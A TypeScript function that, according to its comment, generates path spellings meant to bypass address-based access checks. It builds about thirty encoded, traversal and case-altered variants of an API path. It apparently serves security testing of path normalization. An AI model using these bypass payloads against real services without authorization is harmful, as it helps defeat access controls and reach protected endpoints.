/** Spellings of a call's path that might bypass a check of the address. */
export function pathVariants(path: string): string[] {
  const bare = path.replace(/^\/api(?=\/)/, '')
  const letter = bare.search(/[a-z]/i)
  const encodedLetter = `${bare.slice(0, letter)}%${bare.charCodeAt(letter).toString(16)}${bare.slice(letter + 1)}`
  const last = bare.lastIndexOf('/')
  const spellings = [
    bare,
    `/api${bare}`,
    `/api/api${bare}`,
    `/API${bare}`,
    bare.toUpperCase(),
    bare.toLowerCase(),
    `/api${encodedLetter}`,
    encodedLetter,
    encodedLetter.replace('%', '%25'),
    `${bare.slice(0, last)}%2f${bare.slice(last + 1)}`,
    `${bare.slice(0, last)}%5C${bare.slice(last + 1)}`,
    `/${bare}`,
    `//api${bare}`,
    `/api/${bare}`,
    bare.replaceAll('/', '//'),
    `${bare}/`,
    `${bare}//`,
    `${bare}/.`,
    `/.${bare}`,
    `/x/..${bare}`,
    `/api/../api${bare}`,
    `/%61pi${bare}`,
    `/api%2F${bare.slice(1)}`,
    `${bare};a=b`,
    `${bare}%00`,
    `${bare}%20`,
    `${bare}.json`,
    `${bare}%3Fx=1`,
    `/mobile${bare}`,
    `/pc/index/..%2f..${bare}`,
    `/assets/..${bare}`,
    `/docs/..${bare}`,
    `/docs/%2e%2e${bare}`,
  ]
  return [...new Set(spellings)]
}
